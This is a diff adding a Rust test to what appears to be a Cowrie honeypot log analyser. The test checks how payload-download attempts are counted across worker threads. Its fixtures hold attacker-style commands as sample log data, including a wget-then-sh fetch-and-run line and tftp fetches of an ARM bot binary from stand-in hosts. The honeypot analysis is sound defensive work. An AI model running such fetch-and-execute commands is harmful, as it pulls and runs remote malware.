@@ -652,3 +652,104 @@ fn busybox_tokens_name_the_mirai_fork() {
         );
     }
 }
+
+/// A Cowrie record of a download (`session.file_download`) is the fetch a command
+/// line of its session asked for: the payload host counts it once, matched by host,
+/// port and file name, whichever worker read which row of the session.
+#[test]
+fn recorded_downloads_of_commanded_fetches_count_once() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let path = dir.path().join("cowrie.json");
+    let record = |eventid: &str, session: &str, second: u32, extra: serde_json::Value| {
+        let mut v = serde_json::json!({
+            "eventid": eventid,
+            "session": session,
+            "src_ip": format!("198.51.100.{}", 40 + session.len()),
+            "timestamp": format!("2024-06-02T10:00:{second:02}.000000Z"),
+        });
+        if let (Some(v), serde_json::Value::Object(extra)) = (v.as_object_mut(), extra) {
+            v.extend(extra);
+        }
+        v.to_string()
+    };
+    let cmd = |session: &str, second: u32, input: &str| {
+        record(
+            "cowrie.command.input",
+            session,
+            second,
+            serde_json::json!({ "input": input }),
+        )
+    };
+    let fetched = |session: &str, second: u32, url: &str| {
+        record(
+            "cowrie.session.file_download",
+            session,
+            second,
+            serde_json::json!({ "url": url, "shasum": H1 }),
+        )
+    };
+    let mut lines = vec![
+        // One wget, its record: one attempt.
+        cmd("a", 1, "cd /tmp; wget http://192.0.2.50/x.sh; sh x.sh"),
+        fetched("a", 2, "http://192.0.2.50/x.sh"),
+        // A record no command line asked for (a script's fetch): one attempt.
+        fetched("bb", 3, "http://192.0.2.50/y.sh"),
+        // Two lines fetching the same file, one record (the second failed): two.
+        cmd("ccc", 4, "wget http://192.0.2.50/x.sh"),
+        cmd("ccc", 5, "wget http://192.0.2.50/x.sh"),
+        record(
+            "cowrie.session.file_download.failed",
+            "ccc",
+            6,
+            serde_json::json!({ "url": "http://192.0.2.50/x.sh" }),
+        ),
+        // tftp: the command names the file, Cowrie's URL its path; another
+        // session's identical record is not matched by this one's command.
+        cmd("dddd", 7, "tftp -g -r bins/m.arm 192.0.2.51"),
+        fetched("dddd", 8, "tftp://192.0.2.51/bins/m.arm"),
+        fetched("eeeee", 9, "tftp://192.0.2.51/bins/m.arm"),
+        // Another port is another fetch.
+        cmd("ffffff", 10, "wget http://192.0.2.52:8080/z"),
+        fetched("ffffff", 11, "http://192.0.2.52/z"),
+    ];
+    // Padding between the rows of the sessions, so that small blocks cut between a
+    // session's command and its record (which worker takes which block is up to
+    // the scheduler: agg's unit test `a_fetch_split_between_workers_counts_once`
+    // splits a session between two workers for certain).
+    lines = lines
+        .into_iter()
+        .flat_map(|l| {
+            [
+                l,
+                record("cowrie.session.connect", "pad", 0, serde_json::json!({})),
+            ]
+        })
+        .collect();
+    std::fs::write(&path, lines.join("\n")).expect("write");
+    for (threads, block_size) in [(1, 0), (3, 0), (3, 200), (2, 120)] {
+        let opts = Options {
+            threads,
+            block_size,
+            ..Options::default()
+        };
+        let r = run_with(&[path.display().to_string()], &opts);
+        let what = format!("{threads} threads, {block_size}-byte blocks");
+        assert_eq!(r.totals.bad_rows, 0, "{what}: {:?}", r.bad_rows);
+        assert_eq!(r.totals.recorded_downloads, 6, "{what}: every record");
+        let hosts: Vec<(&str, u64, Vec<&str>)> = (r.payload_hosts.iter())
+            .map(|p| {
+                let methods = p.methods.iter().map(String::as_str).collect();
+                (p.host.as_str(), p.attempts, methods)
+            })
+            .collect();
+        assert_eq!(
+            hosts,
+            [
+                ("192.0.2.50", 4, vec!["http", "wget"]),
+                ("192.0.2.51", 2, vec!["tftp"]),
+                ("192.0.2.52", 2, vec!["http", "wget"]),
+            ],
+            "{what}"
+        );
+    }
+}
